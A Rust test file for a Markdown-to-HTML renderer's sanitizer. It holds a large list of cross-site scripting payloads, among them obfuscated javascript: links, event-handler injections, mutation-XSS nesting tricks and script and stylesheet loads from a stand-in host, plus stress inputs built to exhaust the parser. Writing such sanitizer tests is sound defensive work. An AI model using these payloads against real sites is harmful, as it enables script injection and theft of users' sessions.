//! Posts that try to run script, or to take for ever.

use super::super::{derive, render_html, table_of_contents};
use super::allow_list::violations;

/// Each ends up as harmless text, or as nothing.
pub(super) const VECTORS: &[&str] = &[
    // Markdown
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[x](&#1;javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://example.org/x)",
    "![x](x\"onerror=\"alert(1))",
    "![x](<x\" onerror=\"alert(1)>)",
    "![x](javascript:alert(1))",
    "![x\" onerror=\"alert(1)](y)",
    "![x](y \"z\" onerror=alert(1))",
    "![x](y 'z\" onerror=\"alert(1)')",
    "[x](y '\"><script>alert(1)</script>')",
    "<javascript:alert(1)>",
    "<vbscript:alert(1)>",
    "<data:text/html,x>",
    "<JAVASCRIPT:alert&lpar;1&rpar;>",
    "[x]\n\n[x]: javascript:alert(1)",
    "[x]\n\n[x]: java&#9;script:alert(1)",
    "[x]\n\n[x]: <java\tscript:alert(1)> 'y'",
    "[x]\n\n[x]: &#x6a;avascript&#58;alert(1)",
    "[x][y]\n\n[y]:\njavascript:alert(1)",
    "```\"><script>alert(1)</script>\nx\n```",
    "```rust\" onmouseover=\"alert(1)\nx\n```",
    "~~~ x' onclick='alert(1)\nx\n~~~",
    "```&quot;onclick=alert(1)\nx\n```",
    "# x {#y\"onclick=alert(1)}",
    "# x {onclick=alert(1) style=color:red .evil}",
    "# x {#constructor onmouseover=alert(1)}",
    "[^\"><script>alert(1)</script>]\n\n[^\"><script>alert(1)</script>]: x",
    "| <script>alert(1)</script> | <img src=x onerror=alert(1)> |\n|-|-|\n| a | b |",
    "- [ ] <input type=text name=x autofocus onfocus=alert(1)>",
    "`<script>alert(1)</script>`",
    "\\<script>alert(1)\\</script>",
    // Raw HTML
    "<script>alert(1)</script>",
    "x <script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror = 'alert(1)'>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=\"x` `<script>alert(1)</script>\"` `>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<img src='x' alt='\"' onerror='alert(1)'>",
    "<img src=javascript:alert(1)>",
    "<img dynsrc=javascript:alert(1) lowsrc=javascript:alert(1)>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"java&#10;script:alert(1)\">x</a>",
    "<a href=\"&#0000106avascript:alert(1)\">x</a>",
    "<a href=' \u{1} javascript:alert(1)'>x</a>",
    "<a href=x href=javascript:alert(1)>x</a>",
    "<a xlink:href=javascript:alert(1)>x</a>",
    "<a href=x ping=//evil.example target=_blank>x</a>",
    "<a href=\"https://evil.example\" rel=opener>x</a>",
    "<a href=\"//evil.example\">x</a>",
    "<a href=\"\\\\evil.example\">x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mi><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=alert(1) src=1>\">",
    "<math href=javascript:alert(1)>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
    "<title><img title=\"</title><img src=x onerror=alert(1)>\"></title>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<noembed><img title=\"</noembed><img src onerror=alert(1)>\"></noembed>",
    "<plaintext><script>alert(1)</script>",
    "<select><template><style><a rel=\"</style></template></select><img src onerror=alert(1)>\">",
    "<!-- <!-- --> <script>alert(1)</script> -->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "x <!-- --!> <img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "x <![CDATA[ > <img src=x onerror=alert(1)> ]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<!DOCTYPE html [<!ENTITY x '<script>'>]>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<body onload=alert(1)>",
    "<html onclick=alert(1)>",
    "<base href=javascript:alert(1)//>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style=\"background:url(javascript:alert(1))\">x</p>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input type=image src=x onerror=alert(1)>",
    "<isindex action=javascript:alert(1) type=image>",
    "<video poster=javascript:alert(1)><source src=javascript:alert(1) onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1) autoplay></audio>",
    "<video><track src=data:text/vtt,x></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<keygen autofocus onfocus=alert(1)>",
    "<p contenteditable tabindex=1 onfocus=alert(1) autofocus>x</p>",
    "<table background=javascript:alert(1)><tr><td background=javascript:alert(1)></table>",
    "<a id=config href=cid:x>a</a><a id=config name=url>b</a>",
    "<img name=cookie id=body src=x>",
    "<form id=document><input name=cookie></form>",
    "<h2 id=\"x y\" name=body>z</h2>",
    "<div id=\"__proto__\" class=\"modal admin\">x</div>",
    "<div id=\"fn:x\">y</div>",
    "<ul><li class=\"modal\">x</li></ul><sup class=admin>y</sup><code class=\"language-x y\">z</code>",
    "<p title=\"\n\n# swallowed\n",
    "<div title='\n\n<script>alert(1)</script>\n",
    "<a title=\"</a><script>alert(1)</script>\">x</a>",
    "<x onclick=alert(1)>y</x>",
    "<custom-element onclick=alert(1)>y</custom-element>",
    "<p/onclick=alert(1)>x",
    "<p\u{c}onclick=alert(1)>x",
    "<a =\"x\" onclick=alert(1) href>x</a>",
    "<a href=\"x\"onclick=alert(1)>x</a>",
    "<a\u{0}href=javascript:alert(1)>x</a>",
    "<table><a href=javascript:alert(1)>x<tr><script>alert(1)</script>",
    "<b><p></b><i></p><script>alert(1)</script></i>",
    "</div></article></body><script>alert(1)</script>",
];

#[test]
fn no_vector_gets_through() {
    assert!(VECTORS.len() >= 60);
    for vector in VECTORS {
        let html = render_html(vector);
        assert_eq!(violations(&html), Vec::<String>::new(), "{vector}\n{html}");
    }
}

#[test]
fn vectors_in_containers_do_not_get_through() {
    for vector in VECTORS {
        let lines = vector.replace('\n', "\n> ");
        for markdown in [format!("> {lines}"), format!("*a {vector} b*\n\n# c")] {
            let html = render_html(&markdown);
            assert_eq!(
                violations(&html),
                Vec::<String>::new(),
                "{markdown}\n{html}"
            );
        }
    }
}

#[test]
fn markdown_after_broken_html_is_kept() {
    for broken in [
        "<div title=\"",
        "<!--x",
        "a <textarea>",
        "a <title>",
        "<table><tr>",
        "a <script>",
        "<svg><style>",
        "a <select>",
        "a <template>",
        "a <plaintext>",
    ] {
        let html = render_html(&format!("{broken}\n\n-->\n\n# Next\n\ntext"));
        assert!(
            html.contains("<h1 id=\"next\">Next</h1>"),
            "{broken}: {html}"
        );
    }
}

#[test]
fn deep_and_long_input_ends() {
    let quarter_mib = 1 << 18;
    for (name, markdown) in [
        ("quotes", ">".repeat(25_000)),
        (
            "lazy quotes",
            format!("{}a\n{}", ">".repeat(125_000), "b\n".repeat(60_000)),
        ),
        ("lists", "- ".repeat(quarter_mib / 2)),
        (
            "numbers",
            format!("{}a\n{}", "1. ".repeat(25_000), "b\n".repeat(60_000)),
        ),
        (
            "footnotes",
            format!("{}a\n{}", "[^a]: ".repeat(20_000), "b\n".repeat(60_000)),
        ),
        ("brackets", "[".repeat(quarter_mib)),
        (
            "images",
            format!("{}x{}", "![".repeat(25_000), "](b)".repeat(25_000)),
        ),
        ("emphasis", "*a **a ".repeat(quarter_mib / 7)),
        (
            "nested emphasis",
            format!("{}x{}", "_*".repeat(50_000), "*_".repeat(50_000)),
        ),
        ("elements", "<div>\n\n".repeat(quarter_mib / 7)),
        (
            "formatting",
            format!("a <b title=1><i><u>{}", "<p>a</p>".repeat(quarter_mib / 8)),
        ),
        (
            "attributes",
            format!("<a {}>", "b=c ".repeat(quarter_mib / 4)),
        ),
        ("ampersands", "&".repeat(quarter_mib)),
        (
            "raw ampersands",
            format!("<div>{}", "&".repeat(quarter_mib)),
        ),
        (
            "raw pounds",
            format!("<div>{}", "£".repeat(quarter_mib / 2)),
        ),
        (
            "described ampersands",
            format!("![{}](x)", "&".repeat(quarter_mib)),
        ),
        ("headings", "# a\n".repeat(quarter_mib / 4)),
    ] {
        assert!(violations(&render_html(&markdown)).is_empty(), "{name}");
        let _ = (table_of_contents(&markdown), derive(&markdown));
    }
}
